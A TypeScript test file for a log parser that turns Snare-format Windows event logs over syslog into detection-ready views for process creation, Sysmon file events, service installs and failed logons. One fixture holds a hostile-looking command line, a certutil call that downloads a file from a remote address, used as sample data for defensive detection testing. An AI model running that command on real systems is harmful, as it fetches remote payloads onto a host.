import type { JsonObject } from '@vigie/kit'
import { expect, test } from 'vitest'
import { readEvent } from '../read-event.ts'
import { readAll, valuesOf } from '../text/read-all.ts'

const CREATED =
  'A new process has been created.    Creator Subject:   Security ID:  FINAL\\gate1   Account Name:  gate1   ' +
  'Account Domain:  FINAL   Logon ID:  0x65F    Target Subject:   Security ID:  \\NULL SID   Account Name:  -   ' +
  'Account Domain:  -   Logon ID:  0x0    Process Information:   New Process ID:  0x53e9   New Process Name: ' +
  'C:\\Windows\\System32\\certutil.exe   Token Elevation Type: %%1936   Mandatory Label:  Mandatory Label\\High ' +
  'Mandatory Level   Creator Process ID: 0x421c   Creator Process Name: C:\\Windows\\explorer.exe   Process Command ' +
  'Line: certutil  -urlcache  -f http://192.0.2.7/x    Token Elevation Type indicates the type of token that was assigned.'

function snare(channel: string, id: number, provider: string, message: string): string {
  const parts = [
    'MSWinEventLog',
    1,
    channel,
    4711,
    'Sun Jul 19 20:15:00 2026',
    id,
    provider,
    '-\\-',
    'N/A',
    'Success Audit',
    'GATE-PC1',
    'Process Creation',
    '',
    message,
    99,
  ]
  return `<13>Jul 19 20:15:01 GATE-PC1 ${parts.join('\t')}`
}

function viewsOf(line: string) {
  const values = valuesOf(readAll('syslog', line, 1 << 20, { zoneOffsetMs: 3_600_000 }))
  const event = readEvent(values[0] as JsonObject)
  return {
    timeMs: event.timeMs,
    entity: event.entity,
    views: event.views.map(({ sources, fields }) => ({ source: sources[0], fields })),
  }
}

test.each(['\t', '#011'])('[T178] a new process, parts between %j', (tab) => {
  const line = snare('Security', 4688, 'Microsoft-Windows-Security-Auditing', CREATED)
  const { timeMs, entity, views } = viewsOf(line.replaceAll('\t', tab))
  expect({ timeMs, entity }).toEqual({ timeMs: Date.UTC(2026, 6, 19, 19, 15), entity: 'GATE-PC1' })
  expect(views.map(({ source }) => source)).toEqual([
    { product: 'windows', service: 'security' },
    { product: 'windows', category: 'process_creation' },
  ])
  expect(views[0]?.fields).toMatchObject({
    EventID: '4688',
    Channel: 'Security',
    Provider_Name: 'Microsoft-Windows-Security-Auditing',
    Computer: 'GATE-PC1',
    SubjectUserName: 'gate1',
    SubjectLogonId: '0x65F',
    TargetUserName: '-',
  })
  expect(views[1]?.fields).toMatchObject({
    Image: 'C:\\Windows\\System32\\certutil.exe',
    ParentImage: 'C:\\Windows\\explorer.exe',
    CommandLine: 'certutil  -urlcache  -f http://192.0.2.7/x',
    IntegrityLevel: 'High',
    User: 'FINAL\\gate1',
  })
})

test('[T178] Sysmon, a service, a failed logon', () => {
  const sysmon = viewsOf(
    snare(
      'Microsoft-Windows-Sysmon/Operational',
      11,
      'Microsoft-Windows-Sysmon',
      'File created:  RuleName: -  UtcTime: 2026-07-19 19:14:59.123  Image: C:\\a.exe  TargetFilename: C:\\b c.exe  User: F\\u',
    ),
  )
  expect(sysmon.timeMs).toBe(Date.UTC(2026, 6, 19, 19, 14, 59, 123))
  expect(sysmon.views[0]).toMatchObject({
    source: { product: 'windows', category: 'file_event', service: 'sysmon' },
    fields: { Image: 'C:\\a.exe', TargetFilename: 'C:\\b c.exe' },
  })
  const service = viewsOf(
    snare(
      'System',
      7045,
      'Service Control Manager',
      'A service was installed in the system.    Service Name:  x  Service File Name:  C:\\x.exe  Service Type:  user mode service',
    ),
  )
  expect(service.views[0]?.fields).toMatchObject({ ServiceName: 'x', ImagePath: 'C:\\x.exe' })
  const logon = viewsOf(
    snare(
      'Security',
      4625,
      'Microsoft-Windows-Security-Auditing',
      'An account failed to log on.    Subject:   Account Name:  -    Logon Type:   3    Account For Which Logon Failed:   ' +
        'Account Name:  cy   Account Domain:  FINAL    Network Information:   Source Network Address: 192.0.2.9   Source Port:  50000',
    ),
  )
  expect(logon.views[0]?.fields).toMatchObject({
    LogonType: '3',
    SubjectUserName: '-',
    TargetUserName: 'cy',
    IpAddress: '192.0.2.9',
  })
})

test('[T178] what only begins so stays a syslog message', () => {
  expect(viewsOf('<13>Jul 19 20:15:01 gate MSWinEventLog\t1\tSecurity').views[0]?.source).toEqual({
    product: 'linux',
    service: 'syslog',
  })
})
